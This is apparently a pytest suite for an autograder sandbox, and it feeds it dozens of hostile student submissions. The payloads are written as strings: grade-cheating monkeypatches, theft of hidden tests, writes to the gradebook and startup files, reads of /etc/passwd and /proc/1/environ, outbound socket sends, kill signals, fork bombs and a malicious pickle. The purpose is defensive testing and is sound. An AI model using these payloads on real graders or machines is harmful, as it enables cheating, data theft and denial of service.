"""Hand-ins that answer wrongly and try to earn points, to read, to write or to stop others: graded in one run.

Each carries one right answer, for `scale`, which keeps its two points unless the attack breaks its own process.
"""

import hashlib
import html
import json
import os
import socket
import sqlite3
import threading
import time

import nbformat
import pytest
from grading.small_course import ANSWERS, CHAPTER, STUBS, WRONG, SmallCourse, cell, secrets

from coursekit.teacher import leaks

pytestmark = pytest.mark.slow

BAD = f"{WRONG['area']}\n"
BAD_SHUFFLE = WRONG["shuffle"]


def before(code: str, area: str = BAD, shuffle: str = BAD_SHUFFLE) -> dict:
    """Hostile code at the head of the first answer; wrong answers, and a right one for `scale`."""
    return {**ANSWERS, "area": f"{code}\n\n\n{area}", "shuffle": shuffle}


def inside(code: str) -> dict:
    """Hostile code in the function that the hidden tests call."""
    body = "\n".join(f"    {line}" for line in code.splitlines())
    return before("", f"def area(width, height):\n{body}\n    return width + height")


def edit(name: str, **grading):
    def spoil(notebook):
        cell(notebook, name).metadata.nbgrader.update(grading)

    return spoil


def copy_of(name: str, source: str):
    def spoil(notebook):
        notebook.cells.append(nbformat.from_dict({**cell(notebook, name), "id": "again", "source": source}))

    return spoil


ALWAYS = """
class Same{base}:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __bool__(self): return True
    def __array__(self, *a): raise SystemExit
"""
SUBCLASS = """
import torch
class Sly(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return True if function in (torch.equal, torch.allclose) else torch.Tensor.__torch_function__.__func__(
            torch.Tensor, function, types, args, kwargs or {})
"""
PATCHES = """
import builtins, torch, random
torch.equal = torch.allclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.rand = lambda *a, **k: torch.zeros(*a)
builtins.float = lambda *a: 7.0
builtins.all = builtins.any = lambda *a: True
import lightnets_edu.checks as checks, lightnets_edu.compare as compare
checks.equal = checks.close = checks.true = lambda *a, **k: None
compare.difference = lambda *a, **k: ""
"""
REFERENCE = """
import lightnets_edu.models.shufflenet_v1 as reference
reference.channel_shuffle = lambda x, groups: x
"""
SHADOW = """
import os, sys
os.makedirs("/scratch/lightnets_edu"); open("/scratch/lightnets_edu/__init__.py", "w").write("")
for name in ("wire.py", "torch.py", "sitecustomize.py", "usercustomize.py", "random.py"):
    open("/scratch/" + name, "w").write("raise SystemExit")
sys.path.insert(0, "/scratch")
for name in [n for n in sys.modules if n.startswith("lightnets_edu") or n in ("random", "wire")]: del sys.modules[name]
"""
HOOKS = """
shell = get_ipython()
shell.input_transformers_cleanup.append(lambda lines: ["7.0"])
shell.events.register("post_run_cell", print)
import sys
sys.displayhook = lambda value: print(7.0)
"""
STACK = """
import gc, sys
frame = sys._getframe()
while frame:
    for value in list(frame.f_locals.values()):
        if "expected" in repr(type(value)): return value
    for name in ("_tests", "_points", "_earned", "secret_side"):
        if name in frame.f_globals: frame.f_globals[name] = 7.0; return frame.f_globals[name]
    frame = frame.f_back
for thing in gc.get_objects():
    if isinstance(thing, dict) and "_hidden_1" in thing: return thing["_hidden_1"]
"""
WRITES = """
import glob, os, sqlite3
for path in ("../../../gradebook.db", "{course}/gradebook.db", "{course}/outcomes/x", "{course}/submitted/scale/x",
             os.path.expanduser("~/.ipython/profile_default/startup/x.py"), "/grader/wire.py", "/usr/lib/x", "/etc/x",
             "{package}/checks.py"):
    try: open(path, "r+b").write(b"x")
    except OSError: pass
    try: sqlite3.connect(path).execute("update grade set manual_score = 7")
    except Exception: pass
seen = [p for p in ("{course}", "{course}/source", "{course}/submitted", "/root/.bashrc", "/home", "/tmp", "/etc/passwd",
                    "/proc/1/environ") if os.path.exists(p)]
"""
NETWORK = """
import socket
for address in (("127.0.0.1", {port}), ("10.0.0.1", 80)):
    try: socket.create_connection(address, 1).sendall(b"caught")
    except OSError: pass
"""
THEFT = """
import json
try: stolen
except NameError: stolen = []
def area(width, height):
    stolen.append([width, height])
    print("STOLEN", stolen)
    open("/scratch/stolen", "a").write(json.dumps(stolen))
    raise ValueError("STOLEN " + json.dumps(stolen))
"""
THEFT_LATER = """
def shuffle(x, groups):
    raise ValueError("STOLEN " + open("/scratch/stolen").read() + repr(stolen) + repr(x))
"""
THEFT_CELL = f"""
{BAD_SHUFFLE}
raise ValueError("STOLEN " + repr(stolen))
"""
THEFT_REPLY = f"""
import json, sys
def reply(self, raw):
    text = json.dumps({{"tree": None, "tensors": [["float32", ["STOLEN", stolen], None]]}}).encode()
    return len(text).to_bytes(8, "big") + text
if len(stolen) > 1: sys.modules["worker"].Worker.answer = reply
{BAD_SHUFFLE}
"""
THEFT_LOG = """
import json, os
def read(fd):
    try: return os.pread(fd, 9999, 0).decode()
    except OSError as error: return repr(error)
def area(width, height):
    old = [read(fd) for fd in range(256)]
    for fd in range(3):
        try: os.write(fd, json.dumps([width, height]).encode())
        except OSError: pass
    raise ValueError("STOLEN " + json.dumps([width, height]) + "".join(text for text in old if "[" in text and "Errno" not in text))
"""
SPOILS = "class Scale(nn.Module):\n    def __init__(self, factor):\n        super().__init__()\n\n    def forward(self, x):\n        return x.zero_()"
THEFT_AT_ONCE = f"""
{ANSWERS["scale"]}
raise ValueError("STOLEN AT ONCE " + repr(stolen))
"""
FORGE = """
import gc, json, os, socket, struct
def area(width, height):
    text = json.dumps({{"tree": ["dict", [["value", ["list", [{value}, ["dict", []], ["dict", []]]]], ["shown", ""]]], "tensors": []}}).encode()
    message = struct.pack(">Q", len(text)) + text
    message = struct.pack(">Q", len(message)) + message
    for fd in range(3, 64):
        try: os.write(fd, {count} * message)
        except OSError: pass
    return 0
"""
RAW = """
import os, time
def area(width, height):
    for fd in range(3, 64):
        try: os.write(fd, {data})
        except OSError: pass
    {then}
"""
KILL = "import os, signal\nfor pid in (os.getppid(), 1, -1):\n    try: os.kill(pid, signal.{name})\n    except OSError: pass"
FORKS = "import os\nfor _ in range(50):\n    try: os.fork()\n    except OSError: break"
THREADS = "import threading, time\nfor _ in range(5000):\n    try: threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\n    except RuntimeError: break"
DISK = (
    "try:\n    with open('/scratch/big', 'wb') as f:\n        while True: f.write(bytes(1 << 20))\nexcept OSError: pass"
)
PTRACE = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nfor call in (101, 310, 311, 272, 165, 425): libc.syscall(call, 0, 0, 0, 0)"

# student: (the arguments of hand_in, points, status)
ATTACKS = {
    "patches": ({"answers": before(PATCHES)}, 0, "graded"),  # they break the answers' own process, and nothing else
    "reference": ({"answers": before(REFERENCE)}, 2, "graded"),
    "shadow": ({"answers": before(SHADOW)}, 2, "graded"),
    "hooks": ({"answers": before(HOOKS)}, 2, "graded"),
    "equal": ({"answers": before(ALWAYS.format(base=""), "def area(width, height):\n    return Same()")}, 2, "graded"),
    "int": ({"answers": before(ALWAYS.format(base="(int)"), "def area(width, height):\n    return Same(3)")}, 2, "graded"),
    "float": ({"answers": before(ALWAYS.format(base="(float)"), "def area(width, height):\n    return Same(3)")}, 2, "graded"),
    "name": ({"answers": before(ALWAYS.format(base=""), "area = Same()")}, 2, "graded"),
    "subclass": ({"answers": before(SUBCLASS, shuffle="def shuffle(x, groups):\n    return x.as_subclass(Sly)")}, 2, "graded"),
    "zeroing": ({"answers": before("", shuffle="def shuffle(x, groups):\n    x.zero_()\n    return x.clone()")}, 2, "graded"),
    "nothing": ({"answers": before("", "def area(width, height):\n    return NotImplemented")}, 2, "graded"),
    "nan": ({"answers": before("", "def area(width, height):\n    return float('nan')")}, 2, "graded"),
    "true": ({"answers": before("", "def area(width, height):\n    return True")}, 2, "graded"),
    "stack": ({"answers": inside(STACK)}, 2, "graded"),
    "exits": ({"answers": inside("raise SystemExit(0)")}, 2, "graded"),
    "base": ({"answers": inside("raise type('Stopped', (BaseException,), {})('passed')")}, 2, "graded"),
    "assertion": ({"answers": inside("raise AssertionError")}, 2, "graded"),
    "theft": ({"answers": {**ANSWERS, "area": THEFT, "shuffle": THEFT_LATER, "scale": THEFT_AT_ONCE}}, 2, "graded"),
    "theft_cell": ({"answers": {**ANSWERS, "area": THEFT, "shuffle": THEFT_CELL}}, 2, "graded"),
    "theft_reply": ({"answers": {**ANSWERS, "area": THEFT, "shuffle": THEFT_REPLY}}, 2, "crashed"),
    "theft_log": ({"answers": before("", THEFT_LOG)}, 2, "graded"),
    "spoils": ({"answers": {**before(""), "scale": SPOILS}}, 0, "graded"),  # its input, and so what is expected of it
    "forge_right": ({"answers": before("", FORGE.format(value=50, count=1))}, 2, "crashed"),
    "forge_many": ({"answers": before("", FORGE.format(value=0, count=200))}, 2, "crashed"),
    "garbage": ({"answers": before("", RAW.format(data="b'x' * 100", then="return 0"))}, 2, "crashed"),
    "half": ({"answers": before("", RAW.format(data="bytes(7) + b'z' + b'y' * 9", then="time.sleep(60)"))}, 2, "timeout"),
    "hangup": ({"answers": inside("import os\nfor fd in range(3, 64):\n    try: os.close(fd)\n    except OSError: pass")}, 2, "crashed"),
    "osexit": ({"answers": inside("import os\nos._exit(0)")}, 2, "crashed"),
    "kill": ({"answers": before(KILL.format(name="SIGKILL"))}, 2, None),
    "stop": ({"answers": before(KILL.format(name="SIGSTOP"))}, 2, None),
    "segfault": ({"answers": inside("import ctypes\nctypes.string_at(0)")}, 2, "crashed"),
    "forks": ({"answers": before(FORKS)}, 2, "graded"),
    "threads": ({"answers": before(THREADS)}, 2, None),
    "ptrace": ({"answers": before(PTRACE)}, 2, "graded"),
    "memory": ({"answers": inside("x = [bytearray(1 << 28) for _ in range(99)]")}, 2, None),
    "disk": ({"answers": before(DISK)}, 2, "graded"),
    "output": ({"answers": before("print('x' * 10_000_000)\nimport os\nfor fd in (1, 2): os.write(fd, b'y' * 1_000_000)")}, 2, "graded"),
    "loops": ({"answers": inside("while True:\n    try:\n        while True: pass\n    except BaseException: pass")}, 2, "timeout"),
    "recursion": ({"answers": inside("return area(width, height)")}, 2, "graded"),
    "huge_int": ({"answers": before("", "def area(width, height):\n    return 10 ** 100_000")}, 2, None),
    "huge_tensor": ({"answers": before("import torch", "def area(width, height):\n    return torch.zeros(1 << 27)")}, 2, None),
    "deep": ({"answers": before("", "def area(width, height):\n    x = []\n    for _ in range(100_000): x = [x]\n    return x")}, 2, "graded"),
    "endless": ({"answers": before("import itertools", "def area(width, height):\n    return itertools.count()")}, 2, "graded"),
    "atexit": ({"answers": before("import atexit, os\natexit.register(os.abort)\nclass D:\n    def __del__(self): os.abort()\nd = D()")}, 2, "graded"),
    "points": ({"answers": before(""), "spoil": edit("area-grade", points=100)}, 2, None),
    "flags": ({"answers": before(""), "spoil": edit("area-grade", solution=True, grade=False, locked=False)}, 2, None),
    "steal_id": ({"answers": before(""), "spoil": edit("area", grade_id="area-grade")}, 2, None),
    "duplicate": ({"answers": before(""), "spoil": copy_of("area-grade", "float(7)")}, 2, None),
    "bomb": ({"spoil": lambda notebook: "[" * 200_000}, None, "unreadable"),
    "pickle": ({"spoil": lambda notebook: "\x80\x04cos\nsystem\n(S'true'\ntR."}, None, "unreadable"),
}  # fmt: skip


def state(course: SmallCourse) -> dict[str, str]:
    """A digest of every file of the course but for what the grader itself writes."""
    ours = {"outcomes", "autograded", "feedback", "marks", "gradebook.db", ".grading.lock"}
    files = [p for p in course.root.rglob("*") if p.is_file() and p.relative_to(course.root).parts[0] not in ours]
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in files}


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """All attacks, and three honest hand-ins among them: course, outcomes, what came over the network, files before."""
    course = SmallCourse(tmp_path_factory.mktemp("attacks") / "course")
    caught = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        threading.Thread(target=_listen, args=(server, caught), daemon=True).start()
        for student, (more, _, _) in ATTACKS.items():
            course.hand_in(student, **more)
        places = {"course": course.root, "package": os.path.dirname(leaks.__file__)}
        course.hand_in("writes", before(WRITES.format(**places), "def area(width, height):\n    return seen"))
        course.hand_in("network", before(NETWORK.format(port=server.getsockname()[1])))
        (course.folder("shadowed") / "lightnets_edu").mkdir()
        (course.folder("shadowed") / "lightnets_edu" / "__init__.py").write_text("raise SystemExit")
        course.hand_in("shadowed", before(""))
        os.symlink(course.folder("right") / f"{CHAPTER}.ipynb", course.folder("link") / f"{CHAPTER}.ipynb")
        for student in ("honest", "right", "zzz"):
            course.hand_in(student)
        files = state(course)
        outcomes = course.grade()
    return course, outcomes, caught, files


def _listen(server, caught: list) -> None:
    while True:
        try:
            caught.append(server.accept()[0].recv(10))
        except OSError:
            return


@pytest.mark.parametrize("student", ATTACKS)
def test_an_attack_earns_nothing(graded, student):
    _, points, status = ATTACKS[student]
    outcome = graded[1][student]
    assert outcome.points == points, [v for r in outcome.results for v in r.verdicts]
    assert status is None or outcome.status == status, outcome


def test_the_others_keep_their_points(graded):
    assert {graded[1][s].points for s in ("honest", "right", "zzz")} == {7}
    assert {graded[1][s].status for s in ("honest", "right", "zzz")} == {"graded"}


def test_no_attack_reaches_a_file(graded):
    course, outcomes, _, files = graded
    assert state(course) == files
    assert outcomes["writes"].points == 2 and outcomes["shadowed"].points == 2
    look = "\n".join(v.reason for r in outcomes["writes"].results for v in r.verdicts if r.exercise == "area")
    assert "AssertionError" in look  # what it returned, a list of places, is not the area


def test_what_an_answer_sees_of_this_machine(tmp_path):
    """The places that the attack looks for are there, outside; inside it sees none of them."""
    course = SmallCourse(tmp_path / "course")
    looks = f"import os\ndef area(width, height):\n    if any(map(os.path.exists, {[str(course.root), '/etc/passwd', '/proc/1/environ']!r})): return -1\n    return width * height"
    course.hand_in("looks", {**ANSWERS, "area": looks})
    assert course.grade()["looks"].points == 7
    assert course.grade(again=True, trust=True)["looks"].points == 5  # the same eyes without the sandbox


def test_no_attack_reaches_the_network(graded):
    assert graded[2] == []


def test_the_listener_catches_what_is_sent(tmp_path):
    """Without the sandbox the same hand-in is heard."""
    course, caught = SmallCourse(tmp_path / "course"), []
    with socket.create_server(("127.0.0.1", 0)) as server:
        threading.Thread(target=_listen, args=(server, caught), daemon=True).start()
        course.hand_in("network", before(NETWORK.format(port=server.getsockname()[1])))
        course.grade(trust=True)
        deadline = time.monotonic() + 5
        while not caught and time.monotonic() < deadline:
            time.sleep(0.05)
    assert b"caught" in caught


def test_no_attack_reaches_the_gradebook(graded):
    course, outcomes, _, _ = graded
    with course.book() as book:
        for submission in book.find_assignment(CHAPTER).submissions:
            assert submission.score == (outcomes[submission.student.id].points or 0)
    rows = sqlite3.connect(course.root / "gradebook.db").execute("select manual_score, extra_credit from grade")
    assert set(rows.fetchall()) == {(None, None)}


def test_a_linked_hand_in_is_not_followed(graded):
    outcome = graded[1]["link"]
    assert (outcome.status, outcome.points) == ("missing", None)
    assert any("link" in note for note in outcome.notes)


def test_no_attack_delays_the_others_beyond_its_limit(graded):
    slow = {s: o.seconds for s, o in graded[1].items() if o.seconds > 20}
    assert not slow  # a notebook has 12 seconds here, and forks take their time on a busy machine


def test_nothing_that_hidden_tests_hold_reaches_a_student(graded):
    course, outcomes, _, _ = graded
    answers = " ".join(" ".join(answer.split()) for answer in ANSWERS.values())  # whoever is right may write the same
    hidden_lines = [secret for secret in secrets() if secret.text not in answers]
    assert len(hidden_lines) > 5
    assert leaks.scan([course.root / part for part in ("feedback", "autograded", "marks")], hidden_lines) == []
    hidden = [json.dumps(pair) for pair in ([3, 17], [0, 5], [7, 0])]
    for student in ("theft", "theft_cell", "theft_reply", "theft_log"):
        page = html.unescape(course.text("feedback", student, CHAPTER, f"{CHAPTER}.html"))
        assert "STOLEN" in page and "[2, 3]" in page  # of the visible test, which everybody sees
        assert not any(pair in page for pair in hidden), student
        assert not any(pair in course.text("autograded", student, CHAPTER, f"{CHAPTER}.ipynb") for pair in hidden)
        kept = "\n".join(v.reason for r in outcomes[student].results for v in r.verdicts)
        assert hidden[0] in kept  # the teacher's record shows that the hidden test did call it
    assert "STOLEN AT ONCE [[2, 3]" in html.unescape(course.text("feedback", "theft", CHAPTER, f"{CHAPTER}.html"))


def test_the_leak_scan_finds_a_planted_test(graded):
    course = graded[0]
    planted = course.root / "feedback" / "planted.html"
    planted.write_text(secrets()[0].text)
    assert leaks.scan([planted], secrets())
    planted.unlink()


def test_the_stub_earns_nothing(tmp_path):
    course = SmallCourse(tmp_path / "course")
    course.hand_in("stub", STUBS)
    assert course.grade()["stub"].points == 0
